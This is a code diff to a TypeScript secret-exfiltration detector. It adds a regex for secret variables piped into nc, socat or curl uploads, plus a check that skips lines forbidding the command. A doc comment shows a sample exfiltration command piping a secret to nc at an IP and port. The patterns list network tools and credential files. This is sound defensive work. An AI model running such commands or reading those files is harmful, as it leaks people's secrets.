@@ -27,6 +27,12 @@ export const SECRET_EXFILTRATION_RULE: DetectionRule = {
 const SINK = /\b(?:curl|wget|nc|ncat|netcat|socat|scp|rsync|sftp|ftp|telnet|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|requests\.(?:post|put|get)|urllib|fetch\(|axios|http\.request|nslookup|dig)\b|\/dev\/(?:tcp|udp)\//i;
 const SECRET_SOURCE =
   /\b(?:printenv|env(?=[ \t]*(?:[|>)]|$))|export[ \t]+-p|set[ \t]*\|)|\/proc\/(?:self|\d+)\/environ|\$\((?:env|printenv|set)\b|os\.environ\b(?![.[])|process\.env\b(?![.[])|(?:~|\$HOME|\/root|\/home\/[\w.-]+)\/\.(?:ssh|aws|gnupg|kube|docker|config\/gcloud|config\/gh|netrc|npmrc|pypirc|git-credentials|bash_history|zsh_history|gradle\/gradle\.properties|m2\/settings\.xml|cargo\/credentials|terraformrc|vault-token|azure)\b|\bgradle\.properties\b|\.(?:keystore|jks|p12|pfx)\b|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|\.aws\/credentials\b|(?:\bcat|\btype|Get-Content|<|@|\bbase64)[ \t]*["']?(?:[\w.~/$-]*\/)?\.env(?:\.[\w-]+)?\b|\/etc\/(?:shadow|passwd)\b|\b(?:security[ \t]+find-generic-password|keychain)\b|\$\{\{[ \t]*(?:secrets\.\w+|toJSON\(secrets\))[ \t]*\}\}/i;
+/**
+ * A secret variable's value piped into a raw socket or an upload from stdin (`echo "$AZURE_CLIENT_SECRET" | nc 45.137.21.9 4444`);
+ * the same variable in a request header (`curl -H "Authorization: Bearer $API_TOKEN"`) is how APIs are called.
+ */
+const SECRET_VARIABLE_PIPED =
+  /\$\{?[A-Z][A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|API_KEY|ACCESS_KEY|PRIVATE_KEY)\w*\}?["']?[^|\n]{0,40}\|[ \t]*(?:(?:nc|ncat|netcat|socat|telnet)\b|curl\b[^\n]{0,80}?@-)/;
 /** curl's upload flags, also combined with others ("-sF f=@…"). */
 const UPLOAD = /(?:-[a-zA-Z]*[dFT]|--data(?:-binary|-raw|-urlencode)?|--form|--upload-file)[ \t=]+["']?[\w-]*=?@|--post-file/;
 /** A secret read by a network command: SECRET_SOURCE names the environment, a key or credential file; UPLOAD has '@' or --post-file. */
@@ -95,7 +101,10 @@ export function secretCommands(view: DocumentView, report: Report): void {
   const text = view.text;
   view.eachLine(SECRET_COMMAND_ON, (ls, le) => {
     const line = text.slice(ls, Math.min(le, ls + 2000));
-    if (!SINK.test(line) || !(SECRET_SOURCE.test(line) || (UPLOAD.test(line) && storedSecretsBefore(view, ls)))) return;
+    const sink = SINK.exec(line);
+    if (!sink || !(SECRET_SOURCE.test(line) || SECRET_VARIABLE_PIPED.test(line) || (UPLOAD.test(line) && storedSecretsBefore(view, ls)))) return;
+    // "不要执行 `curl … | sh`", "never run `curl`": a line that forbids the command sends nothing.
+    if (view.negated(ls + sink.index)) return;
     const lead = line.length - line.trimStart().length;
     report(ls + lead, ls + line.trimEnd().length, 'secret_exfiltration',
       `Sends secrets to the network ${preview(line.trim(), 100)}: it reads environment variables, keys or credential files and uploads them.`);
